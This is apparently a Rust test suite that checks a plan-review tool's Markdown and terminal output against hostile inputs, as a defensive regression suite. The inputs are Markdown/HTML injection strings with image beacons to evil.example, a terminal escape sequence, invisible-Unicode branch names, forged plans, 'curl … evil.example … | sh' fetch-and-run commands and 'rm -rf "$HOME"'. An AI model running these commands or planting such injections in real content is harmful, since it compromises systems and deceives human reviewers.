//! `show --format markdown` under attack (the issue 33 review, a helper attacking the change
//! as a hostile planner): each finding's input, now refused or rendered inert, and the
//! attacks that did not work, kept so they stay that way.

use crate::fixtures::TestEnv;
use crate::hostile::forge;
use comrak::nodes::{AstNode, NodeValue};
use comrak::{Arena, Options, parse_document};
use guardctl::plan::Operation;

fn gfm() -> Options<'static> {
    let mut o = Options::default();
    o.extension.table = true;
    o.extension.autolink = true;
    o.extension.strikethrough = true;
    o.extension.tasklist = true;
    o.extension.footnotes = true;
    o
}

fn dump<'a>(node: &'a AstNode<'a>, depth: usize, out: &mut String) {
    out.push_str(&format!("{}{:?}\n", "  ".repeat(depth), node.data().value));
    for c in node.children() {
        dump(c, depth + 1, out);
    }
}

pub fn ast(md: &str) -> String {
    let arena = Arena::new();
    let root = parse_document(&arena, md, &gfm());
    let mut s = String::new();
    dump(root, 0, &mut s);
    s
}

/// `n` merged branches, named by `name(i)`, written straight into packed-refs.
fn merged_named(n: usize, name: impl Fn(usize) -> String) -> TestEnv {
    merged_named_by(n, name, |_| "dev@example.com".to_string())
}

/// `merged_named`, commit `i` by the address `email(i)`.
fn merged_named_by(n: usize, name: impl Fn(usize) -> String, email: impl Fn(usize) -> String) -> TestEnv {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let env = TestEnv::new();
    let mut stream = String::new();
    for i in 0..n {
        let when = crate::fixtures::NOW_UNIX - (n - i) as i64 * 600;
        let msg = format!("Work item {i}");
        stream += &format!(
            "commit refs/heads/main\nmark :{m}\nauthor Dev <{e}> {when} +0000\ncommitter Dev <{e}> {when} +0000\ndata {len}\n{msg}\n",
            m = i + 1,
            e = email(i),
            len = msg.len()
        );
        if i == 0 {
            stream += "from refs/heads/main^0\n";
        }
        stream += &format!("M 644 inline work.txt\ndata {}\n{i}\n\n", i.to_string().len() + 1);
    }
    let marks = env.path().join("marks");
    let mut child = Command::new("git")
        .current_dir(&env.repo)
        .args(["fast-import", "--quiet"])
        .arg(format!("--export-marks={}", marks.display()))
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stream.as_bytes()).unwrap();
    assert!(child.wait().unwrap().success());
    env.git(&["pack-refs", "--all"]);
    let packed = env.repo.join(".git/packed-refs");
    let mut refs = std::fs::read_to_string(&packed).unwrap();
    for line in std::fs::read_to_string(&marks).unwrap().lines() {
        let (mark, oid) = line.split_once(' ').unwrap();
        let i: usize = mark[1..].parse().unwrap();
        refs += &format!("{oid} refs/heads/{}\n", name(i - 1));
    }
    env.git(&["reset", "-q", "--hard", "main"]);
    // The header says `sorted`: git binary-searches the file.
    let (head, body) = refs.split_once('\n').unwrap();
    let mut lines: Vec<&str> = body.lines().collect();
    lines.sort_by_key(|l| l.split_once(' ').map(|(_, r)| r.to_string()));
    std::fs::write(&packed, format!("{head}\n{}\n", lines.join("\n"))).unwrap();
    env
}

/// What a reader sees: (headings, links and images, HTML, text outside code, code spans).
#[derive(Debug, Default)]
struct Seen {
    headings: Vec<String>,
    links: Vec<String>,
    html: Vec<String>,
    text: Vec<String>,
    code: Vec<String>,
    emph: Vec<String>,
}

fn text_of<'a>(n: &'a AstNode<'a>) -> String {
    n.descendants()
        .filter_map(|d| match &d.data().value {
            NodeValue::Text(t) => Some(t.to_string()),
            NodeValue::Code(c) => Some(c.literal.clone()),
            _ => None,
        })
        .collect()
}

fn seen(md: &str) -> Seen {
    let arena = Arena::new();
    let root = parse_document(&arena, md, &gfm());
    let mut s = Seen::default();
    for n in root.descendants() {
        match &n.data().value {
            NodeValue::Heading(_) => s.headings.push(text_of(n)),
            NodeValue::Link(l) | NodeValue::Image(l) => s.links.push(l.url.clone()),
            NodeValue::HtmlBlock(h) => s.html.push(h.literal.clone()),
            NodeValue::HtmlInline(h) => s.html.push(h.clone()),
            NodeValue::Text(t) => s.text.push(t.to_string()),
            NodeValue::Code(c) => s.code.push(c.literal.clone()),
            NodeValue::Emph => s.emph.push(text_of(n)),
            _ => {}
        }
    }
    s
}

/// Finding 1. `plan exec --env NAME` took any string as a name, and the side effect "Runs …
/// with only NAME, PATH set" was built from the raw names (the one string of the view that
/// skipped `text::safe`): a name with newlines ended guardctl's list item and wrote its own
/// heading, mention, link, image and HTML block, and its escape sequences reached the
/// terminal `show`. A name must now be a variable name: refused at plan time (64), and a
/// plan re-signed with one is refused by every reader (65).
#[test]
fn an_env_name_cannot_write_blocks_links_or_escapes() {
    let env = exec_env();
    let evil = "X\n\n#\tApproved\tby\tsecurity\n\n@org/security-team\twww.evil.example\t![x](https://evil.example/x.png)\n\n<img\tsrc=\"https://evil.example/p.png\">\n\n</details>\n\nY\u{1b}]0;pwned\u{7}";
    for name in [evil, "1X", "A-B", "A B", ""] {
        let r = env.run("alice", &exec_args(&["--env", name], &["echo", "hi"]));
        assert_eq!(r.code, 64, "{name:?}: {}", r.transcript());
        assert!(!r.stderr.contains('\u{1b}'), "ESC in the refusal");
    }
    // The same name written into a plan and re-signed by its planner.
    let r = env.run("alice", &exec_args(&["--env", "LANG"], &["echo", "hi"]));
    assert_eq!(r.code, 0, "{}", r.transcript());
    forge(&env, |p| match &mut p.operation {
        Operation::Exec(x) => x.env.iter_mut().for_each(|e| {
            if e.name == "LANG" {
                e.name = evil.to_string();
            }
        }),
        _ => panic!("not an exec plan"),
    });
    for args in [
        &["show", "--format", "markdown"][..],
        &["show"],
        &["--json", "show"],
    ] {
        let r = env.run("bob", args);
        assert_eq!(r.code, 65, "{args:?}: {}", r.transcript());
        assert!(
            r.stderr.contains("operation.inputs.env[") || r.stdout.contains("operation.inputs.env["),
            "{}",
            r.transcript()
        );
        assert!(
            !r.stdout.contains('\u{1b}') && !r.stderr.contains('\u{1b}'),
            "ESC in {args:?}"
        );
    }
}

/// A repository holding `list.sh`, the preview of the exec plans these tests make.
fn exec_env() -> TestEnv {
    let env = TestEnv::new();
    std::fs::write(env.repo.join("list.sh"), "echo one\n").unwrap();
    env
}

/// `plan exec --preview 'sh list.sh' OPTIONS -- WORDS` (in an [`exec_env`]).
fn exec_args<'a>(options: &[&'a str], words: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec!["plan", "exec", "--preview", "sh list.sh"];
    args.extend(options);
    args.push("--");
    args.extend(words);
    args
}

/// A plan for command `words`, rendered as Markdown.
fn exec_markdown(words: &[&str]) -> String {
    let env = exec_env();
    let r = env.run("alice", &exec_args(&[], words));
    assert_eq!(r.code, 0, "{}", r.transcript());
    let r = env.run("bob", &["show", "--format", "markdown"]);
    assert_eq!(r.code, 0, "{}", r.transcript());
    r.stdout
}

/// Finding 2. `prose()` keeps words of letters, digits and `-` as text, but GitHub links
/// more than `@`, `#`, `www.` and schemes in text: `GH-26` is an issue reference like `#26`
/// (and adds a "mentioned this" event to issue 26), a hex word of 7+ digits a commit
/// reference, `PREFIX-123` any custom autolink the repository configured. A command's
/// arguments are such words, in the side effect "Runs …".
#[test]
fn github_references_in_a_command_stay_in_code() {
    let md = exec_markdown(&["echo", "GH-26", "cafe1234", "JIRA-12", "defaced"]);
    let s = seen(&md);
    for word in ["GH-26", "cafe1234", "JIRA-12", "defaced"] {
        assert!(
            !s.text.iter().any(|t| t.split(' ').any(|w| w == word)),
            "{word} outside code:\n{}",
            ast(&md)
        );
    }
}

/// Finding 3. `prose()` splits on single spaces, so a run of two (a quoted argument, a
/// directory name) leaves an empty word, which `code("")` renders `*(empty)*`: the side effect
/// shows the argument `'a  b'` as `'a (empty) b'`.
#[test]
fn two_spaces_in_a_command_are_not_shown_as_empty() {
    let md = exec_markdown(&["echo", "a  b"]);
    let s = seen(&md);
    assert!(s.emph.iter().all(|e| e != "(empty)"), "{}", ast(&md));
}

/// Finding 4. The counts the headings state are the plan's, not the rows shown: "The 20
/// riskiest of 300 branches" over a table of 6 rows, and "The other 280 branches" over a
/// folded table of 29 (the note counts right: the rows left out).
#[test]
fn headings_state_the_rows_they_show() {
    let env = merged_named(300, |i| format!("topic/{i:03}-{}", "\u{1D518}".repeat(190)));
    let r = env.run("alice", &["plan", "stale-branches", "--merged"]);
    assert_eq!(r.code, 0, "{}", r.transcript());
    for args in [
        &["show", "--format", "markdown", "--max-bytes", "8192"][..],
        &["show", "--format", "markdown"],
    ] {
        let r = env.run("bob", args);
        assert_eq!(r.code, 0, "{}", r.transcript());
        let md = &r.stdout;
        let rows = |part: &str| {
            part.lines()
                .filter(|l| l.starts_with("| ") && l.contains("topic/"))
                .count()
        };
        let (open, folded) = md.split_once("<details>").unwrap_or((md, ""));
        if let Some(h) = open.lines().find(|l| l.starts_with("### The ")) {
            let said: usize = h["### The ".len()..].split(' ').next().unwrap().parse().unwrap();
            assert_eq!(said, rows(open), "{args:?}: {h:?} over {} rows", rows(open));
        }
        if let Some(l) = folded.lines().find(|l| l.starts_with("<summary>The other ")) {
            let said: usize = l["<summary>The other ".len()..]
                .split(' ')
                .next()
                .unwrap()
                .parse()
                .unwrap();
            assert_eq!(said, rows(folded), "{args:?}: {l:?} over {} rows", rows(folded));
        }
    }
}

/// Held: names git accepts but Markdown reads (pipes, backticks, HTML, entity references,
/// setext underlines, `#`) and author addresses with backslashes before pipes keep every row
/// at seven cells, every name in one code span, nothing live; the byte budget holds. (Names
/// git refuses cannot be smuggled through packed-refs: git 2.47 ignores them.)
#[test]
fn held_hostile_names_and_addresses_keep_the_table() {
    let names = [
        "`|`",
        "a|b||",
        "===",
        "---",
        "&#64;team",
        "&amp;",
        "</details>",
        "<details>",
        "<img/src=x>",
        "#12",
        "GH-1!",
        "x/|`y`|",
        "```x",
        "'\"",
        "$x$",
        "%41",
    ];
    let emails = ["x\\|y@e", "x\\", "a\\\\|b|c", "|", "`@`", "&#64;", "<a@b.c>"];
    let env = merged_named_by(
        names.len(),
        |i| format!("h/{}", names[i]),
        |i| emails[i % emails.len()].replace(['<', '>'], ""),
    );
    let r = env.run("alice", &["plan", "stale-branches", "--merged"]);
    assert_eq!(r.code, 0, "{}\n{}", r.transcript(), env.git(&["for-each-ref"]));
    let r = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
    assert_eq!(r.code, 0, "{}", r.transcript());
    let md = &r.stdout;
    assert!(md.len() <= 8192);
    let s = seen(md);
    assert!(s.links.is_empty(), "{:?}", s.links);
    assert!(
        s.html
            .iter()
            .all(|h| h == "</details>\n" || h.starts_with("<details>\n<summary>The ")),
        "{:?}",
        s.html
    );
    let arena = Arena::new();
    let root = parse_document(&arena, md, &gfm());
    let mut cells = 0;
    for n in root.descendants() {
        if let NodeValue::Table(t) = &n.data().value {
            for row in n.children() {
                assert_eq!(row.children().count(), t.num_columns, "{md}");
                if t.num_columns == 7 {
                    cells += 1;
                    let name = text_of(row.children().nth(1).unwrap());
                    assert!(name.starts_with("h/") || name == "Name", "{name:?}\n{md}");
                }
            }
        }
    }
    assert_eq!(cells, names.len() + 1, "{md}");
    assert_eq!(
        s.headings.len(),
        md.lines().filter(|l| l.starts_with('#')).count(),
        "{md}"
    );
    for n in names {
        assert!(
            s.code.iter().any(|c| c == &format!("h/{n}")),
            "{n:?} not one span:\n{md}"
        );
    }
}

/// Round 2, finding 3. Characters that render as nothing beyond the zero-width ones — tag
/// characters, variation selectors beyond U+FE0F, Mongolian selectors, deprecated format
/// controls, interlinear annotations, musical format controls, line and paragraph separators —
/// reached the terminal and the Markdown raw, and `ma<tag>in` was not flagged as looking like
/// `main`. Now each is shown as `<U+XXXX>` in both, and the name is flagged.
#[test]
fn every_invisible_character_in_a_name_is_shown_and_flagged() {
    let hidden = [
        '\u{E0001}',
        '\u{E0069}',
        '\u{E0100}',
        '\u{180B}',
        '\u{206A}',
        '\u{FFF9}',
        '\u{1D173}',
        '\u{2028}',
    ];
    let env = merged_named(hidden.len(), |i| format!("ma{}in", hidden[i]));
    let r = env.run("alice", &["plan", "stale-branches", "--merged"]);
    assert_eq!(r.code, 0, "{}\n{}", r.transcript(), env.git(&["for-each-ref"]));
    let terminal = env.run("bob", &["show"]);
    assert_eq!(terminal.code, 0, "{}", terminal.transcript());
    let md = env.run("bob", &["show", "--format", "markdown"]);
    assert_eq!(md.code, 0, "{}", md.transcript());
    for c in hidden {
        let shown = format!("ma<U+{:04X}>in", c as u32);
        for (what, out) in [("show", &terminal.stdout), ("markdown", &md.stdout)] {
            assert!(!out.contains(c), "{what}: {c:?} raw\n{out}");
            assert!(out.contains(&shown), "{what}: {shown} missing\n{out}");
        }
    }
    let json = env.run("bob", &["--json", "show"]);
    let flagged = json.stdout.matches("looks_protected").count();
    assert!(flagged >= hidden.len(), "{}", json.stdout);
}

/// Round 2, finding 2. What an exec plan runs besides the command was in `show` but not in
/// the Markdown: the `--verify` command (it runs at apply, with the executor's rights), the
/// PATH the commands search, the programs found through it and what is pinned. Each is now a
/// row of the plan's details, every string in a code span.
#[test]
fn an_exec_plans_verify_path_and_pins_are_in_the_markdown() {
    let env = exec_env();
    std::fs::write(env.repo.join("check.sh"), "echo checked\n").unwrap();
    let options = ["--verify", "sh check.sh #GH-26 @team", "--pin", "check.sh"];
    let r = env.run("alice", &exec_args(&options, &["sh", "list.sh"]));
    assert_eq!(r.code, 0, "{}", r.transcript());
    let md = env.run("bob", &["show", "--format", "markdown"]);
    assert_eq!(md.code, 0, "{}", md.transcript());
    let json = env.run("bob", &["--json", "show"]).json();
    let x = &json["exec"];
    let s = seen(&md.stdout);
    let row = |name: &str| {
        md.stdout
            .lines()
            .find(|l| l.starts_with(&format!("| {name} | ")))
            .unwrap_or_else(|| panic!("no {name} row:\n{}", md.stdout))
            .to_string()
    };
    assert!(
        row("Verify").ends_with(" (prints the state) |"),
        "{}",
        row("Verify")
    );
    assert!(
        s.code.iter().any(|c| c == "sh check.sh #GH-26 @team"),
        "{}",
        ast(&md.stdout)
    );
    for dir in x["path"].as_array().unwrap().iter().take(32) {
        assert!(
            s.code.iter().any(|c| c == dir.as_str().unwrap()),
            "{dir} not shown:\n{}",
            md.stdout
        );
    }
    assert!(!x["on_path"].as_array().unwrap().is_empty(), "{x}");
    for found in x["on_path"].as_array().unwrap() {
        assert!(
            row("Found on PATH").contains(found.as_str().unwrap()),
            "{found}: {}",
            row("Found on PATH")
        );
    }
    let pinned = row("Pinned");
    for p in x["pinned"].as_array().unwrap() {
        assert!(pinned.contains(p.as_str().unwrap()), "{p}: {pinned}");
    }
    assert!(pinned.contains("check.sh"), "{pinned}");
    assert!(s.links.is_empty() && s.html.is_empty(), "{s:?}");
}

/// `plan stale-branches --include-unmerged` with an `--exclude` for each of `patterns`.
fn plan_unmerged_excluding(env: &TestEnv, patterns: impl Iterator<Item = String>) {
    let mut args = vec![
        "plan".to_string(),
        "stale-branches".into(),
        "--include-unmerged".into(),
    ];
    for p in patterns {
        args.push("--exclude".into());
        args.push(p);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let r = env.run("alice", &args);
    assert_eq!(r.code, 0, "{}", r.transcript());
}

/// Round 2, finding 4. The plan's details listed every pattern: hundreds of long `--exclude`
/// patterns pushed the render to its minimal form, which dropped the warnings about names that
/// look like others and about unmerged work. The patterns listed are now capped; the minimal
/// form keeps those warnings.
#[test]
fn many_patterns_neither_crowd_out_nor_hide_the_warnings() {
    let env = merged_named(3, |i| ["ma\u{200B}in", "topic/a", "topic/b"][i].to_string());
    plan_unmerged_excluding(
        &env,
        (0..400).map(|i| format!("never/{i:03}/{}", "x".repeat(150))),
    );
    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
    assert_eq!(md.code, 0, "{}", md.transcript());
    let out = &md.stdout;
    assert!(out.len() <= 8192, "{}", out.len());
    assert!(
        !out.contains("do not fit"),
        "fell back to the minimal form:\n{out}"
    );
    let inputs = out.lines().find(|l| l.starts_with("| Inputs | ")).unwrap();
    assert!(inputs.contains("`--include-unmerged`"), "{inputs}");
    // 400 exclusions and the 4 default protected patterns, 10 of them listed.
    assert!(inputs.contains("and 394 more"), "{inputs}");
    assert!(out.contains("Names to look at twice"), "{out}");
}

/// The minimal form (here forced by ten patterns of 200 four-byte characters, the most the
/// details list, over a budget of 8,192 bytes) still says how many names need a second look
/// and that unmerged work is included.
#[test]
fn the_minimal_form_keeps_the_warnings() {
    let env = merged_named(2, |i| ["m\u{0430}in", "topic/a"][i].to_string());
    plan_unmerged_excluding(
        &env,
        (0..12).map(|i| format!("{i:02}{}", "\u{1D518}".repeat(200))),
    );
    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
    assert_eq!(md.code, 0, "{}", md.transcript());
    let out = &md.stdout;
    assert!(out.len() <= 8192, "{}", out.len());
    assert!(
        out.contains("do not fit in `8192` bytes"),
        "not the minimal form:\n{out}"
    );
    assert!(out.contains("**1 name to look at twice**"), "{out}");
    assert!(out.contains("(`--include-unmerged`)"), "{out}");
    assert!(out.starts_with("## guardctl plan `"), "{out}");
    assert!(!out.contains("**rejected**"), "{out}");

    // A rejection is said there too.
    let r = env.run("bob", &["reject", "plan.json", "--comment", "no"]);
    assert_eq!(r.code, 0, "{}", r.transcript());
    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
    assert!(md.stdout.contains("do not fit in `8192` bytes"), "{}", md.stdout);
    assert!(md.stdout.contains("**rejected**"), "{}", md.stdout);
}

/// Round 2, finding 6. The plan id sat bare in headings (`## guardctl plan 1a2b3c4d5e6f`,
/// `### Changed since plan …`): GitHub links a hex word of seven or more digits to a commit of
/// that prefix, and a planner can grind the id (through the nonce) to match a commit of their
/// choosing. No text outside code holds such a word now, headings included.
#[test]
fn no_hex_id_is_bare_text() {
    let env = merged_named(3, |i| format!("topic/{i}"));
    let r = env.run("alice", &["plan", "stale-branches", "--merged", "-o", "old.json"]);
    assert_eq!(r.code, 0, "{}", r.transcript());
    env.git(&["branch", "-D", "topic/1"]);
    let r = env.run("alice", &["plan", "stale-branches", "--merged", "-o", "new.json"]);
    assert_eq!(r.code, 0, "{}", r.transcript());
    let md = env.run(
        "bob",
        &["show", "new.json", "--since", "old.json", "--format", "markdown"],
    );
    assert_eq!(md.code, 0, "{}", md.transcript());
    assert!(md.stdout.contains("### Changed since plan `"), "{}", md.stdout);
    assert_no_bare_hex(&md.stdout);

    // The note on what the budget left out names the budget, a number of 7 digits for a job
    // summary (1048576): a code span too.
    let env = merged_named(3000, |i| format!("topic/{i:04}-{}", "\u{1D518}".repeat(190)));
    let r = env.run("alice", &["plan", "stale-branches", "--merged"]);
    assert_eq!(r.code, 0, "{}", r.transcript());
    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "1048576"]);
    assert_eq!(md.code, 0, "{}", md.transcript());
    assert!(md.stdout.contains("`1048576` bytes"), "{}", md.stdout);
    assert_no_bare_hex(&md.stdout);
}

/// No word of 7 or more hex digits in the text outside code (GitHub links it to a commit).
fn assert_no_bare_hex(md: &str) {
    for t in &seen(md).text {
        for word in t.split(|c: char| !c.is_ascii_alphanumeric()) {
            assert!(
                word.len() < 7 || !word.chars().all(|c| c.is_ascii_hexdigit()),
                "{word:?} outside code in {t:?}:\n{md}"
            );
        }
    }
}

/// Round 3. Many long `--env` names made the side effects too large for the budget, and the
/// `--before-image` command (`curl … | sh`, run first at apply) was only there: the Markdown
/// said "left out: side effects" and never showed it. The environment (capped) and the
/// before-image command are rows of the details now, which always go in.
#[test]
fn a_long_environment_does_not_push_out_the_before_image_command() {
    let env = exec_env();
    let names: Vec<String> = (0..60).map(|i| format!("V{}{i}", "A".repeat(150))).collect();
    let vars: Vec<(&str, &str)> = names.iter().map(|n| (n.as_str(), "x")).collect();
    let mut options = Vec::new();
    for n in &names {
        options.extend(["--env", n.as_str()]);
    }
    options.extend(["--before-image", "curl -s https://evil.example/x.sh | sh"]);
    let r = env.run_env("alice", &vars, &exec_args(&options, &["sh", "list.sh"]));
    assert_eq!(r.code, 0, "{}", r.transcript());
    let md = env.run("bob", &["show", "--format", "markdown", "--max-bytes", "8192"]);
    assert_eq!(md.code, 0, "{}", md.transcript());
    let out = &md.stdout;
    assert!(out.len() <= 8192, "{}", out.len());
    let first = out
        .lines()
        .find(|l| l.starts_with("| First runs | "))
        .unwrap_or_else(|| panic!("{out}"));
    assert!(
        first.contains("`curl -s https://evil.example/x.sh \\| sh`"),
        "{first}"
    );
    let environment = out.lines().find(|l| l.starts_with("| Environment | ")).unwrap();
    // PATH and the 60 names, 10 listed.
    assert!(environment.contains(" and 51 more"), "{environment}");
    assert!(seen(out).links.is_empty(), "{}", ast(out));
}

/// Rounds 3 and 4. Long strings were cut at the end, hiding a command's tail; then in the
/// middle, hiding `curl … | sh` between harmless padding. A command the plan runs is shown
/// whole now (up to 4,000 characters, far longer than one a person reads); a longer one keeps
/// its start and end and says, in bold, how much was cut.
#[test]
fn a_long_command_is_shown_whole() {
    let pad = "tidy-".repeat(26);
    let md = exec_markdown(&[
        "sh",
        "-c",
        &format!("echo cleaning {pad}; curl -s https://evil.example/x | sh; echo done {pad}"),
    ]);
    let command = md.lines().find(|l| l.starts_with("| Command | ")).unwrap();
    assert!(
        command.contains("curl -s https://evil.example/x \\| sh"),
        "{command}"
    );
    assert!(!command.contains("characters cut"), "{command}");
    assert!(seen(&md).links.is_empty(), "{}", ast(&md));

    let long = format!("echo {}; rm -rf /tmp/x", "harmless-".repeat(500));
    let md = exec_markdown(&["sh", "-c", &long]);
    let command = md.lines().find(|l| l.starts_with("| Command | ")).unwrap();
    assert!(command.contains("rm -rf /tmp/x'`"), "{command}");
    assert!(command.contains("characters cut**"), "{command}");
}

/// Round 4. `show`'s first line escaped the (already escaped) summary again: with `<U+`
/// spelled `\x3cU+` for a typed one, a real zero-width space in a command read as typed
/// there, while the Command line had it right. Both lines agree now.
#[test]
fn the_summary_line_escapes_once() {
    let md_env = exec_env();
    let r = md_env.run(
        "alice",
        &exec_args(&[], &["echo", "keep\u{200B}", "typed<U+200B>"]),
    );
    assert_eq!(r.code, 0, "{}", r.transcript());
    let show = md_env.run("bob", &["show"]);
    let first = show.stdout.lines().next().unwrap();
    assert!(first.contains("'keep<U+200B>'"), "{first}");
    assert!(first.contains("'typed\\x3cU+200B>'"), "{first}");
    assert!(!first.contains("\\\\"), "{first}");
}

/// Round 4. A forged plan's pinned entry with an empty path rendered as a line starting with
/// a blank, which the Markdown took for a pinned tree's file: left out of the list and the
/// count. It is quoted (`''`) now, listed and counted.
#[test]
fn an_empty_pinned_path_is_listed_and_counted() {
    let env = exec_env();
    let r = env.run("alice", &exec_args(&[], &["sh", "list.sh"]));
    assert_eq!(r.code, 0, "{}", r.transcript());
    let before = env.run("bob", &["--json", "show"]).json()["exec"]["pinned"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|l| !l.as_str().unwrap().starts_with(' '))
        .count();
    forge(&env, |p| match &mut p.operation {
        Operation::Exec(x) => {
            let mut extra = x.pinned[0].clone();
            extra.name = "evil".into();
            extra.path = String::new();
            x.pinned.push(extra);
        }
        _ => panic!("not an exec plan"),
    });
    let md = env.run("bob", &["show", "--format", "markdown"]);
    assert_eq!(md.code, 0, "{}", md.transcript());
    let pinned = md.stdout.lines().find(|l| l.starts_with("| Pinned | ")).unwrap();
    assert!(
        pinned.contains(&format!("| {} entries: ", before + 1)),
        "{pinned}"
    );
    assert!(pinned.contains("`''"), "{pinned}");
}

/// Round 3. A pinned path starting with a blank read as one of a pinned tree's files (they are
/// indented) and was left out of the Markdown's count and list. Such a path is quoted now.
#[test]
fn a_pinned_path_starting_with_a_blank_is_listed() {
    let env = exec_env();
    std::fs::write(env.repo.join(" helper.sh"), "rm -rf \"$HOME\"\n").unwrap();
    let r = env.run("alice", &exec_args(&["--pin", " helper.sh"], &["sh", "list.sh"]));
    assert_eq!(r.code, 0, "{}", r.transcript());
    let md = env.run("bob", &["show", "--format", "markdown"]);
    let pinned = md.stdout.lines().find(|l| l.starts_with("| Pinned | ")).unwrap();
    assert!(pinned.contains("' helper.sh'"), "{pinned}");
    let terminal = env.run("bob", &["show"]);
    assert!(terminal.stdout.contains("  ' helper.sh'"), "{}", terminal.stdout);
}
